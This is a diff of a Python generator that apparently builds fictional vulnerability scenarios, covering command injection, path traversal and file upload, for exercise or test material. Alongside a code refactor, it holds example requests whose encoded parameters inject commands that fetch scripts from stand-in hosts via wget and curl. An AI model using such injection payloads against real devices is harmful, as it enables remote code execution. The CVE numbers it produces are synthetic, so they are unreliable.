@@ -20,7 +20,7 @@ _TOPICS = "relay valve sensor tariff scene lamp motor".split()
 class Kind:
     """A kind of flaw: its weakness, and how experts and users describe it.
 
-    `{page}`, `{field}`, `{other}`, `{port}` and `{topic}` are where it is in a student's product.
+    `{page}`, `{field}`, `{port}` and `{topic}` are where it is in a student's product.
     `choices` are the CVSS values that make sense.
     """
 
@@ -42,16 +42,20 @@ WEB = (
         "command injection",
         "/cgi-bin/{page}.cgi, parameter {field}",
         (
-            "What one sends as `{field}` to /cgi-bin/{page}.cgi ends up in a call of the"
+            "What one sends as `{field}` to /cgi-bin/{page}.cgi ends up in a call of"
+            " the"
             " shell. A semicolon and a command of one's own behind it, and the device"
             " runs it.",
-            "/cgi-bin/{page}.cgi hands the parameter `{field}` to system() as it is. With"
+            "/cgi-bin/{page}.cgi hands the parameter `{field}` to system() as it is."
+            " With"
             " $(...) in it I could run `id`.",
         ),
         _WEB,
         (
-            "POST /cgi-bin/{page}.cgi HTTP/1.1 ... {field}=x%3Bwget+198.51.100.23%2Fm.sh",
-            "POST /cgi-bin/{page}.cgi HTTP/1.1 ... {field}=%24%28curl+203.0.113.77%2Fa%29",
+            "POST /cgi-bin/{page}.cgi HTTP/1.1 ..."
+            " {field}=x%3Bwget+198.51.100.23%2Fm.sh",
+            "POST /cgi-bin/{page}.cgi HTTP/1.1 ..."
+            " {field}=%24%28curl+203.0.113.77%2Fa%29",
         ),
     ),
     Kind(
@@ -61,7 +65,8 @@ WEB = (
         "path traversal",
         "/cgi-bin/{page}.cgi, parameter {field}",
         (
-            "/cgi-bin/{page}.cgi opens whatever file `{field}` names. Enough ../ in front,"
+            "/cgi-bin/{page}.cgi opens whatever file `{field}` names. Enough ../ in"
+            " front,"
             " and one leaves the folder that was meant.",
             "The parameter `{field}` of /cgi-bin/{page}.cgi is taken for a file name"
             " without a look at dots and slashes.",
@@ -80,7 +85,8 @@ WEB = (
         (
             "Through `{field}` of /cgi-bin/{page}.cgi one can upload any kind of file,"
             " also a script, which the web server then runs when it is asked for.",
-            "/cgi-bin/{page}.cgi does not look at the type of what arrives as `{field}`."
+            "/cgi-bin/{page}.cgi does not look at the type of what arrives as"
+            " `{field}`."
             " My file with the ending .cgi could be called afterwards.",
         ),
         _WEB,
@@ -141,7 +147,7 @@ class Flaw:
     affected: tuple[str, ...]
     label: str
     cve: str
-    marks: tuple[str, ...]
+    marks: tuple[str, ...] = ()
 
     def say(self, text: str) -> str:
         """The text with this product's places."""
@@ -177,43 +183,46 @@ def draw(source: random.Random, maker: Maker, year: int) -> Flaws:
     page = source.choice(_PAGES)
     one, other = source.sample(_FIELDS, 2)
     quiet = source.choice(OTHER)
-    port, topic = str(source.randint(20000, 60000)), _topic(source)
+    place = {"port": str(source.randint(20000, 60000)), "topic": _topic(source)}
+    mark = place["port" if "{port}" in quiet.where else "topic"]
+    names = _names(source, year)
+    newest = RELEASES - 1
+    oldest = UNSUPPORTED - 1
+    return Flaws(
+        exploited=Flaw(
+            exploited,
+            {"page": page, "field": one},
+            # What was done to users altered their devices.
+            facts.draw(source, {**exploited.choices, "I": "HL"}),
+            maker.between(source.randint(oldest - 1, oldest + 1), newest),
+            *names[0],
+        ),
+        embargoed=Flaw(
+            quiet,
+            place,
+            facts.draw(source, quiet.choices),
+            maker.between(source.randint(oldest + 2, newest - 2), RELEASES),
+            *names[1],
+            marks=(mark,),
+        ),
+        minor=Flaw(
+            minor,
+            {"page": page, "field": other},
+            facts.draw(source, minor.choices),
+            maker.between(
+                source.randint(0, oldest - 1), source.randint(newest - 2, newest - 1)
+            ),
+            *names[2],
+        ),
+    )
+
+
+def _names(source: random.Random, year: int) -> list[tuple[str, str]]:
+    """Engineering's label and the CVE number of each of three flaws."""
     labels = source.sample(range(200, 999), 3)
     numbers = source.sample(range(10000, 68000), 3)
-    newest = RELEASES - 1
-    gone = source.randint(newest - 2, newest - 1)
-    ends = (
-        (source.randint(UNSUPPORTED - 2, UNSUPPORTED), newest),
-        (source.randint(UNSUPPORTED + 1, newest - 2), RELEASES),
-        (source.randint(0, UNSUPPORTED - 2), gone),
-    )
-    made = [
-        Flaw(
-            kind,
-            places,
-            facts.draw(source, {**kind.choices, **choices}),
-            maker.between(*end),
-            f"ENG-{label}",
-            f"CVE-{year}-{number}",
-            marks,
-        )
-        for kind, choices, places, end, label, number, marks in zip(
-            (exploited, quiet, minor),
-            # What was done to users altered their devices.
-            ({"I": "HL"}, {}, {}),
-            (
-                {"page": page, "field": one},
-                {"port": port, "topic": topic},
-                {"page": page, "field": other},
-            ),
-            ends,
-            labels,
-            numbers,
-            ((), (port if "{port}" in quiet.where else topic,), ()),
-            strict=True,
-        )
-    ]
-    return Flaws(*made)
+    pairs = zip(labels, numbers, strict=True)
+    return [(f"ENG-{label}", f"CVE-{year}-{number}") for label, number in pairs]
 
 
 def _topic(source: random.Random) -> str:
